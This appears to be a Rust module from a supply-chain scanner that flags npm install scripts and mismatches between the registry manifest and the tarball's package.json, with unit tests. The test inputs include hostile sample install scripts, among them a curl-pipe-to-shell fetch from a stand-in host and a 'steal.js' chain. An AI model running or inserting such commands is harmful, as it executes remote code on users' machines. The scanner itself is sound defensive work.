//! npm specifics: install scripts, and manifest confusion — the registry serves a package
//! document that need not match the `package.json` inside the tarball, and npm runs the
//! tarball's scripts and installs the tarball's dependencies, whatever the registry page shows.

use serde_json::Value;

use crate::api::package_request::Severity;
use crate::pipeline::unpack::Finding;

/// Lifecycle scripts npm runs on install.
const INSTALL: [&str; 3] = ["preinstall", "install", "postinstall"];

fn object<'a>(v: &'a Value, key: &str) -> Option<&'a serde_json::Map<String, Value>> {
    v.get(key).and_then(Value::as_object)
}

/// Install scripts, from the tarball's `package.json` (what npm runs).
pub fn install_scripts(package_json: &Value) -> Vec<Finding> {
    let Some(scripts) = object(package_json, "scripts") else {
        return Vec::new();
    };
    INSTALL
        .iter()
        .filter_map(|k| scripts.get(*k).and_then(Value::as_str).map(|v| (k, v)))
        .map(|(k, v)| {
            let builds = builds_native_addon(v);
            Finding {
                rule: "heuristics.install-script".into(),
                // Low when the script is only the standard native build: node-gyp compiles the
                // package's own C/C++ sources (its `binding.gyp` is the package's to review),
                // and the prebuilt-binary fetchers take the package's own release.
                severity: if builds {
                    Severity::Low
                } else {
                    Severity::Medium
                },
                file: Some("package/package.json".into()),
                line: None,
                evidence: Some(format!(
                    "runs at install time{}: {k}: {}",
                    if builds {
                        " (the standard native-addon build)"
                    } else {
                        ""
                    },
                    v.chars().take(160).collect::<String>()
                )),
            }
        })
        .collect()
}

/// Whether a script is nothing but the standard native-addon build commands (`node-gyp rebuild`,
/// `node-gyp-build`, `prebuild-install`), alone or chained with `||` / `&&`.
fn builds_native_addon(script: &str) -> bool {
    const KNOWN: [&str; 5] = [
        "node-gyp rebuild",
        "node-gyp-build",
        "node-gyp-build-optional-packages",
        "prebuild-install",
        "prebuild-install -r napi",
    ];
    let mut parts = 0;
    for part in script.split("||").flat_map(|p| p.split("&&")) {
        let part = part.split_whitespace().collect::<Vec<_>>().join(" ");
        if !KNOWN.contains(&part.as_str()) {
            return false;
        }
        parts += 1;
    }
    parts > 0
}

/// Differences between the registry's document for the version and the tarball's `package.json`
/// in what decides install behaviour: name, version, install scripts, dependencies.
pub fn confusion(registry: &Value, package_json: &Value) -> Option<Finding> {
    let mut diffs = Vec::new();
    for key in ["name", "version"] {
        if registry.get(key) != package_json.get(key) {
            diffs.push(format!(
                "{key}: registry {} vs tarball {}",
                short(registry.get(key)),
                short(package_json.get(key))
            ));
        }
    }
    for k in INSTALL {
        let r = object(registry, "scripts").and_then(|s| s.get(k));
        let t = object(package_json, "scripts").and_then(|s| s.get(k));
        if r != t {
            diffs.push(format!(
                "scripts.{k}: registry {} vs tarball {}",
                short(r),
                short(t)
            ));
        }
    }
    for key in ["dependencies", "optionalDependencies"] {
        let empty = serde_json::Map::new();
        let r = object(registry, key).unwrap_or(&empty);
        let t = object(package_json, key).unwrap_or(&empty);
        for (name, range) in t {
            if r.get(name) != Some(range) {
                diffs.push(format!(
                    "{key}.{name}: registry {} vs tarball {}",
                    short(r.get(name)),
                    short(Some(range))
                ));
            }
        }
        for name in r.keys().filter(|n| !t.contains_key(*n)) {
            diffs.push(format!("{key}.{name}: only in the registry document"));
        }
    }
    (!diffs.is_empty()).then(|| Finding {
        rule: "heuristics.manifest-confusion".into(),
        severity: Severity::High,
        file: Some("package/package.json".into()),
        line: None,
        evidence: Some(format!(
            "the tarball's package.json differs from the registry document: {}",
            diffs.into_iter().take(5).collect::<Vec<_>>().join("; ")
        )),
    })
}

fn short(v: Option<&Value>) -> String {
    match v {
        None => "(none)".into(),
        Some(v) => v.to_string().chars().take(80).collect(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn hidden_scripts_and_dependencies_are_confusion() {
        let registry = json!({"name": "w", "version": "1.0.0", "dependencies": {"a": "^1"}});
        assert!(confusion(&registry, &registry.clone()).is_none());
        let tarball = json!({"name": "w", "version": "1.0.0", "dependencies": {"a": "^1", "evil": "1.0.0"}, "scripts": {"postinstall": "node x.js"}});
        let f = confusion(&registry, &tarball).expect("confusion");
        let e = f.evidence.unwrap_or_default();
        assert!(
            e.contains("scripts.postinstall") && e.contains("dependencies.evil"),
            "{e}"
        );
        assert_eq!(install_scripts(&tarball).len(), 1);
        assert!(install_scripts(&registry).is_empty());
    }

    #[test]
    fn the_standard_native_build_counts_for_less_than_other_install_scripts() {
        let severity = |script: &str| {
            install_scripts(&json!({"scripts": {"install": script}}))
                .first()
                .map(|f| f.severity)
        };
        for honest in [
            "node-gyp rebuild",
            "node-gyp-build",
            "prebuild-install || node-gyp rebuild",
            "prebuild-install  -r napi || node-gyp rebuild",
        ] {
            assert_eq!(severity(honest), Some(Severity::Low), "{honest}");
        }
        for other in [
            "node-gyp rebuild && node steal.js",
            "node install.js",
            "node-gyp rebuild; curl http://x | sh",
            "",
        ] {
            assert_eq!(severity(other), Some(Severity::Medium), "{other:?}");
        }
    }
}
